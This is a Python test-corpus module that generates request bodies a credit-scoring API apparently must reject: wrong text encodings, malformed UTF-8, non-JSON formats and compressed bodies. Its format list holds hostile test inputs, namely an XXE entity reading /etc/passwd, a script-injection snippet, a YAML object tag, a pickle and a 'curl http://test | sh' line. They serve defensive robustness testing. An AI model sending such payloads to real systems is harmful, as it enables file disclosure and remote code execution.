"""Bodies in another encoding than UTF-8, or in another format than JSON."""

import base64
import bz2
import gzip
import io
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from urllib.parse import quote

import msgspec

from tests.robustness.corpus.case import CLIENT, Case, as_bytes, post, posts

TEXT = '{"SK_ID_CURR": 7, "AMT_CREDIT": 500000}'
BODY = TEXT.encode()
NOT_UTF8 = {
    "a byte that no UTF-8 has": b"\xff",
    "a letter in Latin-1": b"\xe9",
    "quotes of Windows": b"\x93x\x94",
    "a continuation without a start": b"\x80",
    "a start without its continuation": b"\xe2\x82",
    "a character cut short": b"\xf0\x9f\x98",
    "a slash written too long": b"\xc0\xaf",
    "a NUL written too long": b"\xc0\x80",
    "a quotation mark written too long": b"\xe0\x80\xa2",
    "half a character": b"\xed\xa0\x80",
    "a character of CESU-8": b"\xed\xa0\xbd\xed\xb8\x80",
    "a character past the last one": b"\xf4\x90\x80\x80",
    "a sequence of five bytes": b"\xf8\x88\x80\x80\x80",
    "Shift-JIS": "信用".encode("shift-jis"),
    "GB 18030": "信用".encode("gb18030"),
    "KOI8-R": "кредит".encode("koi8-r"),
}
FORMATS = {
    "XML": b"<?xml version='1.0'?><record><AMT_CREDIT>500000</AMT_CREDIT></record>",
    "XML with an entity": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "HTML": b"<html><script>alert(1)</script></html>",
    "YAML": b"SK_ID_CURR: 7\nAMT_CREDIT: 500000\n",
    "YAML that makes objects": b"!!map {AMT_CREDIT: 500000}",
    "TOML": b"SK_ID_CURR = 7\nAMT_CREDIT = 500000\n",
    "CSV": b"SK_ID_CURR,AMT_CREDIT\n7,500000\n",
    "a form": b"SK_ID_CURR=7&AMT_CREDIT=500000",
    "a form of several parts": b'--x\r\nContent-Disposition: form-data; name="AMT_CREDIT"\r\n\r\n500000\r\n--x--\r\n',
    "SQL": b"SELECT * FROM decisions; --",
    "JSON5": b"{SK_ID_CURR: 7, AMT_CREDIT: +500000,}",
    "a JSON text sequence": b'\x1e{"AMT_CREDIT": 500000}\n',
    "a server-sent event": b'data: {"AMT_CREDIT": 500000}\n\n',
    "a netstring": b'22:{"AMT_CREDIT": 500000},',
    "a Python dict": b"{'SK_ID_CURR': 7, 'AMT_CREDIT': 500000.0, 'EXT_SOURCE_1': None}",
    "an S-expression": b"((AMT_CREDIT 500000))",
    "CBOR": b"\xa1\x6aAMT_CREDIT\x1a\x00\x07\xa1\x20",
    "BSON": b"\x19\x00\x00\x00\x01AMT_CREDIT\x00\x00\x00\x00\x00\x00\x84\x1eA\x00",
    "UBJSON": b"{i\x0aAMT_CREDITl\x00\x07\xa1 }",
    "a protocol buffer": b"\x08\x07\x10\xa0\xc2\x1e",
    "a picture": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "a PDF": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj",
    "a program": b"\x7fELF\x02\x01\x01\0",
    "a script": b"#!/bin/sh\ncurl http://test | sh\n",
    "all bytes": bytes(range(256)),
    "a MiB of NULs": bytes(2**20),
}


def cases() -> Iterator[Case]:
    """Each is refused as no JSON document."""
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig", "cp500"):
        yield post(f"in {name}", TEXT.encode(name), 400)
    yield post("in UTF-16 after the other order's mark", b"\xfe\xff" + TEXT.encode("utf-16-le"), 400)
    yield post("two byte-order marks", b"\xef\xbb\xbf" * 2 + BODY, 400)
    yield post("a byte-order mark at the end", BODY + b"\xef\xbb\xbf", 400)
    yield post("in UTF-7", b'+AHs-"AMT_CREDIT": 500000+AH0-', 400)
    for name, text in NOT_UTF8.items():
        yield post(f"{name} in a label", b'{"AMT_CREDIT": 1, "OCCUPATION_TYPE": "%s"}' % text, 400)
        yield post(f"{name} in a name", b'{"AMT_CREDIT": 1, "%s": 1}' % text, 400)
    yield from posts(FORMATS, 400)
    yield from posts(packed(BODY), 400)


def packed(body: bytes) -> Mapping[str, bytes]:
    """The body as each usual compression or wrapping makes it."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("record.json", body)
    return {
        "gzip": gzip.compress(body, mtime=0),
        "zlib": zlib.compress(body),
        "raw deflate": zlib.compress(body, wbits=-15),
        "bzip2": bz2.compress(body),
        "xz": lzma.compress(body),
        "lzma": lzma.compress(body, lzma.FORMAT_ALONE),
        "brotli": brotli(body),
        "zstandard": zstandard(body),
        "zip": archive.getvalue(),
        "Base64": base64.b64encode(body),
        "hexadecimal": body.hex().encode(),
        "Ascii85": base64.a85encode(body, adobe=True),
        "percent-encoded": quote(body).encode(),
        "a pickle": pickle.dumps(dict(CLIENT)),
        "MessagePack": msgspec.msgpack.encode(dict(CLIENT)),
    }


def brotli(body: bytes) -> bytes:
    """A brotli stream of one stored block (RFC 7932); the standard library has no compressor."""
    length = len(body) - 1
    return bytes([0x0B | (length & 1) << 7, length >> 1 & 0xFF, 0x80 | length >> 9]) + body + b"\x03"


def zstandard(body: bytes) -> bytes:
    """A Zstandard frame of one stored block (RFC 8878), of at most 255 bytes."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(body)]) + (len(body) << 3 | 1).to_bytes(3, "little") + body


def single_bytes() -> Iterator[Case]:
    """A body of one byte, each that is no document; and a good record with one more byte in a label, each that isn't ASCII."""
    for byte in (one for one in range(1, 256) if chr(one) not in " 0123456789"):
        yield post(f"the byte {byte:#04x}", bytes([byte]), 400)
    for byte in range(0x80, 0x100):
        body = as_bytes({**CLIENT, "OCCUPATION_TYPE": "Drivers"}).replace(b"Dr", b"D%cr" % byte)
        yield post(f"the byte {byte:#04x} in a label", body, 400)
